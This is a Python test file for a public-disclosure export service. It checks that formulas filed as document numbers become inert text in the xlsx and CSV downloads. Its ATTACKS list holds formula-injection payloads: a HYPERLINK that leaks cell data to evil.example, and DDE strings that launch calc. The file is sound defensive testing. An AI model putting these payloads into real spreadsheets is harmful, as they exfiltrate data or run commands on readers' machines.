"""Exports cannot attack the reader: text a department filed never runs as a formula in the
spreadsheet of someone who downloads the public disclosure.

Before exports neutralised text, the xlsx carried ``=HYPERLINK(...)`` as a live formula and the
CSV began a cell with ``=``; these tests failed on that code.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import httpx
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from api.exports import export
from ledger.events import Role
from tests.support.api import Api, Views
from tests.support.world import filing

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def _attacks_downloaded(api: Api, views: Views, format: str) -> httpx.Response:
    """The department files the attacks as document numbers; a visitor downloads the public
    disclosure in ``format``."""
    source = api.headers(Role.SOURCE_DEPARTMENT)
    for n, number in enumerate(ATTACKS, start=1):
        sent = filing(n, document_number=number).model_dump(mode="json")
        assert api.client.post("/api/v1/records", headers=source, json=sent).status_code == 201
    views.catch_up()
    return api.client.get("/", params={"format": format})


def test_a_formula_filed_as_a_document_number_is_inert_text_in_the_public_xlsx(
    api: Api, views: Views,
) -> None:
    download = _attacks_downloaded(api, views, "xlsx")

    assert download.status_code == 200
    sheet = _sheet(download.content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str)
            and c.value.startswith(FORMULA_STARTS)] == []
    numbers = {row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert numbers == {"'" + number for number in ATTACKS}


def test_a_formula_filed_as_a_document_number_is_inert_text_in_the_public_csv(
    api: Api, views: Views,
) -> None:
    download = _attacks_downloaded(api, views, "csv")

    rows = list(csv.reader(io.StringIO(download.text.removeprefix("\ufeff"))))
    assert [value for row in rows for value in row if value.startswith(FORMULA_STARTS)] == []
    assert {row[2] for row in rows[1:]} == {"'" + number for number in ATTACKS}


def test_a_negative_amount_stays_a_number_while_text_that_looks_like_one_is_neutralised() -> (
    None
):
    rows = [{"amount": Decimal("-500.00"), "count": -3, "text": "-500", "tab": "\t=1+1"}]
    columns = [("amount", "金额"), ("count", "件数"), ("text", "文号"), ("tab", "备注")]

    sheet = _sheet(bytes(export(rows, columns, "xlsx", "t").body))
    text = bytes(export(rows, columns, "csv", "t").body).decode().removeprefix("\ufeff")

    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [
        (-500, -3, "'-500", "'\t=1+1")]
    assert list(csv.reader(io.StringIO(text)))[1] == ["-500.00", "-3", "'-500", "'\t=1+1"]


def test_a_control_character_in_filed_text_does_not_break_the_xlsx_export() -> None:
    rows = [{"number": "闽纪\x07〔2026〕1号"}]

    response = export(rows, [("number", "决定文号")], "xlsx", "t")

    sheet = _sheet(bytes(response.body))
    assert sheet["A2"].value == "闽纪\ufffd〔2026〕1号"
